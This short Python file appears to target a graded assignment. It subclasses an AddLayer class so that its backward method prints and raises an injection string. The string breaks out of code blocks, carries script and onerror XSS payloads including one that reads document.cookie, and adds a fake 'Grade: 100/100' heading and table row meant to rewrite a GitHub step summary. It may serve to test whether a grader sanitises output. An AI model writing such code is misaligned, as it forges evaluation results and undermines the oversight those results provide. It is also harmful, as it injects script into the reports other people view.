_AddLayer = AddLayer

INJECTION = ("</code></pre></details><img src=x onerror=alert(1)><script>alert(document.cookie)</script>\n"
             "```\n</sub>\n## Grade: 100/100 (100.0%)\n| ✅ | AddLayer | 100/100 | 9/9 |\n"
             "[click here](javascript:alert(1)) <!-- hide the rest")


class AddLayer(_AddLayer):
    """HTML and Markdown meant to rewrite the GitHub step summary."""

    def backward(self, dout):
        print(INJECTION)
        raise ValueError(INJECTION)
